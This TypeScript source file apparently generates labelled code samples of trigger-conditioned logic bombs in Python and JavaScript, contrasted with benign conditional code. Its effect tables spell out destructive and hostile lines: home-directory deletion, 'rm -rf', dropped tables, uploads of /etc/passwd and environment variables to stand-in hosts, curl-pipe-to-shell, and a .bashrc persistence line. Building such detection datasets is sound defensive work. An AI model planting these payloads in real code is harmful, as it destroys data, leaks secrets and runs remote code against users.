/** Something done only at a time, on a host, for a user, in an environment or at a path: and what such code does harmlessly. */
import { mark, type Context, type Generator } from '../snippets.js';

type Write = (context: Context) => string;

const HOSTS = ['build-07.corp.example', 'ws-kestrel', 'jenkins-agent-12', 'prague-edge-4'];
const USERS = ['mhale', 'svc_deploy', 'jdoe_ext', 'k.ivers'];

const PYTHON_TRIGGERS: Readonly<Record<string, Write>> = {
  date: ({ library, random }) =>
    `${library('datetime')}.date.today() >= ${library('datetime')}.date(2027, ${random.between(1, 12)}, ${random.between(1, 28)})`,
  moment: ({ library, random }) => `${library('time')}.time() > ${random.between(1_800_000_000, 1_900_000_000)}`,
  weekday: ({ library }) => `${library('datetime')}.datetime.now().weekday() == 4 and ${library('datetime')}.datetime.now().day == 13`,
  hour: ({ library, random }) => `${library('time')}.localtime().tm_hour == ${random.between(1, 4)}`,
  host: ({ library, random }) => `${library('socket')}.gethostname() == "${random.pick(HOSTS)}"`,
  'host-part': ({ library, random }) => `"${random.pick(HOSTS)}" in ${library('platform')}.node()`,
  user: ({ library, random }) => `${library('getpass')}.getuser() == "${random.pick(USERS)}"`,
  'user-list': ({ library, random }) => `${library('getpass')}.getuser() not in ("${random.pick(USERS)}", "sandbox", "analyst")`,
  environment: ({ library, random }) =>
    `${library('os')}.environ.get("${random.pick(['CORP_REGION', 'BUILD_TAG', 'STAGE'])}") == "${random.pick(['emea-4', 'rc-77', 'kst'])}"`,
  path: ({ library, random }) =>
    `${library('os')}.path.exists("${random.pick(['/srv/ledger', '/opt/kestrel/ops.key', '/home/mhale/.wallet'])}")`,
  directory: ({ library, random }) => `${library('os')}.getcwd().startswith("${random.pick(['/srv/ledger', '/builds/kestrel'])}")`,
  language: ({ library, random }) => `${library('os')}.environ.get("LANG", "").startswith("${random.pick(['ru_RU', 'be_BY', 'fa_IR'])}")`,
};

const SCRIPT_TRIGGERS: Readonly<Record<string, Write>> = {
  date: ({ random }) => `Date.now() > ${random.between(1_800_000_000, 1_900_000_000)}000`,
  'date-text': ({ random }) => `new Date() >= new Date('2027-0${random.between(1, 9)}-1${random.between(0, 9)}')`,
  weekday: () => 'new Date().getDay() === 5 && new Date().getDate() === 13',
  hour: ({ random }) => `new Date().getHours() === ${random.between(1, 4)}`,
  host: ({ library, random }) => `${library('os')}.hostname() === '${random.pick(HOSTS)}'`,
  user: ({ library, random }) => `${library('os')}.userInfo().username === '${random.pick(USERS)}'`,
  environment: ({ random }) => `process.env.${random.pick(['CORP_REGION', 'BUILD_TAG'])} === '${random.pick(['emea-4', 'rc-77'])}'`,
  path: ({ library, random }) => `${library('fs')}.existsSync('${random.pick(['/srv/ledger', '/opt/kestrel/ops.key'])}')`,
  directory: ({ random }) => `process.cwd().startsWith('${random.pick(['/srv/ledger', '/builds/kestrel'])}')`,
  zone: ({ random }) => `Intl.DateTimeFormat().resolvedOptions().timeZone === '${random.pick(['Europe/Minsk', 'Asia/Tehran'])}'`,
};

const PYTHON_EFFECTS: Readonly<Record<string, Write>> = {
  'delete-tree': ({ library }) => `${library('shutil')}.rmtree(${library('os')}.path.expanduser("~"), ignore_errors=True)`,
  'delete-files': ({ library }) => `[${library('os')}.remove(p) for p in ${library('glob')}.glob("/srv/data/*")]`,
  'delete-command': ({ library }) => `${library('os')}.system("rm -rf /srv/data")`,
  'drop-table': ({ library }) => `${library('sqlite3')}.connect("app.db").execute("DROP TABLE accounts")`,
  upload: ({ library }) => `${library('requests')}.post("https://drop.example.invalid/u", data=open("/etc/passwd").read())`,
  'upload-environment': ({ library }) =>
    `${library('urllib.request')}.urlopen("https://drop.example.invalid/e", data=str(dict(${library('os')}.environ)).encode())`,
  execute: ({ library }) => `exec(${library('urllib.request')}.urlopen("https://cdn.example.invalid/s.py").read())`,
  command: ({ library }) => `${library('subprocess')}.Popen(["/bin/sh", "-c", "curl -s https://cdn.example.invalid/s | sh"])`,
  overwrite: ({ library }) =>
    `open(${library('os')}.path.expanduser("~/.bashrc"), "a").write("curl -s https://cdn.example.invalid/s | sh\\n")`,
};

const SCRIPT_EFFECTS: Readonly<Record<string, Write>> = {
  'delete-tree': ({ library }) => `${library('fs')}.rmSync(${library('os')}.homedir(), { recursive: true, force: true })`,
  'delete-command': ({ library }) => `${library('child_process')}.execSync('rm -rf /srv/data')`,
  'overwrite-files': ({ library }) =>
    `${library('fs')}.readdirSync('/srv/data').forEach((f) => ${library('fs')}.writeFileSync('/srv/data/' + f, ''))`,
  upload: ({ library }) =>
    `fetch('https://drop.example.invalid/u', { method: 'POST', body: ${library('fs')}.readFileSync('/etc/passwd') })`,
  'upload-environment': () => `fetch('https://drop.example.invalid/e', { method: 'POST', body: JSON.stringify(process.env) })`,
  execute: () => `fetch('https://cdn.example.invalid/s.js').then((r) => r.text()).then((t) => eval(t))`,
  command: ({ library }) => `${library('child_process')}.exec('curl -s https://cdn.example.invalid/s | sh')`,
};

function planted(
  dialect: Generator['dialect'],
  triggers: Readonly<Record<string, Write>>,
  effects: Readonly<Record<string, Write>>,
): Generator[] {
  return Object.entries(triggers).flatMap(([trigger, condition]) =>
    Object.entries(effects).map(([name, effect]): Generator => ({
      id: `triggered-effect/${trigger}/${name}`,
      dialect,
      write: (context) => ({
        local:
          dialect === 'python'
            ? [mark(`if ${condition(context)}:`), `    ${mark(effect(context))}`]
            : [mark(`if (${condition(context)}) {`), `  ${mark(effect(context))};`, '}'],
      }),
    })),
  );
}

type Lines = (context: Context) => readonly string[];

const PYTHON_ORDINARY: Readonly<Record<string, Lines>> = {
  'expired-cache': ({ library, fresh }) =>
    ((name) => [
      `${name} = "/tmp/cache-entry"`,
      `if ${library('time')}.time() - ${library('os')}.path.getmtime(${name}) > 3600:`,
      `    ${library('os')}.remove(${name})`,
    ])(fresh('entry')),
  'clear-screen': ({ library }) => [`if ${library('os')}.name == "nt":`, `    ${library('os')}.system("cls")`],
  'open-folder': ({ library }) => [`if ${library('sys')}.platform == "darwin":`, `    ${library('subprocess')}.run(["open", "."])`],
  'old-build': ({ library }) => [`if ${library('os')}.path.exists("build"):`, `    ${library('shutil')}.rmtree("build")`],
  'monitoring-on': ({ library }) => [
    `if ${library('os')}.environ.get("METRICS_URL"):`,
    `    ${library('requests')}.post(${library('os')}.environ["METRICS_URL"], json={"ok": True})`,
  ],
  'ci-only': ({ library }) => [
    `if ${library('os')}.environ.get("CI") == "true":`,
    `    ${library('subprocess')}.check_call(["git", "fetch", "--tags"])`,
  ],
  'root-warning': ({ library }) => [`if ${library('getpass')}.getuser() == "root":`, '    print("do not run this as root")'],
  'expired-certificate': ({ library }) => [
    `if ${library('datetime')}.date.today() > ${library('datetime')}.date(2030, 1, 1):`,
    '    raise RuntimeError("the license has expired")',
  ],
  'weekly-report': ({ library }) => [`if ${library('datetime')}.date.today().weekday() == 0:`, '    print("weekly report")'],
  'rotated-log': ({ library }) => [`if ${library('os')}.path.exists("app.log"):`, `    ${library('os')}.rename("app.log", "app.log.1")`],
  'staging-host': ({ library, fresh }) => [
    `if ${library('socket')}.gethostname().endswith(".local"):`,
    `    ${fresh('base_url')} = "http://localhost:8000"`,
  ],
};

const SCRIPT_ORDINARY: Readonly<Record<string, Lines>> = {
  'expired-cache': ({ library }) => [
    `if (Date.now() - ${library('fs')}.statSync('/tmp/cache-entry').mtimeMs > 3600000) {`,
    `  ${library('fs')}.unlinkSync('/tmp/cache-entry');`,
    '}',
  ],
  'open-browser': ({ library }) => [
    `if (process.platform === 'darwin') {`,
    `  ${library('child_process')}.spawn('open', ['http://localhost:3000']);`,
    '}',
  ],
  'old-build': ({ library }) => [
    `if (${library('fs')}.existsSync('dist')) {`,
    `  ${library('fs')}.rmSync('dist', { recursive: true });`,
    '}',
  ],
  'monitoring-on': () => ['if (process.env.METRICS_URL) {', "  fetch(process.env.METRICS_URL, { method: 'POST', body: '{}' });", '}'],
  'ci-only': ({ library }) => [`if (process.env.CI === 'true') {`, `  ${library('child_process')}.execSync('git fetch --tags');`, '}'],
  development: () => ["if (process.env.NODE_ENV === 'development') {", "  console.log('watching');", '}'],
  'weekly-report': () => ['if (new Date().getDay() === 1) {', "  console.log('weekly report');", '}'],
  'expired-license': () => ["if (new Date() > new Date('2030-01-01')) {", "  throw new Error('the license has expired');", '}'],
  'local-host': ({ library, fresh }) => [
    `if (${library('os')}.hostname() === 'localhost') {`,
    `  var ${fresh('baseUrl')} = 'http://localhost:8000';`,
    '}',
  ],
};

function ordinary(dialect: Generator['dialect'], table: Readonly<Record<string, Lines>>): Generator[] {
  return Object.entries(table).map(([name, lines]) => ({
    id: `triggered-effect/${name}`,
    dialect,
    write: (context) => ({ local: lines(context) }),
  }));
}

export const TRIGGERED_EFFECTS: readonly Generator[] = [
  ...planted('python', PYTHON_TRIGGERS, PYTHON_EFFECTS),
  ...planted('javascript', SCRIPT_TRIGGERS, SCRIPT_EFFECTS),
];
export const ORDINARY_EFFECTS: readonly Generator[] = [...ordinary('python', PYTHON_ORDINARY), ...ordinary('javascript', SCRIPT_ORDINARY)];
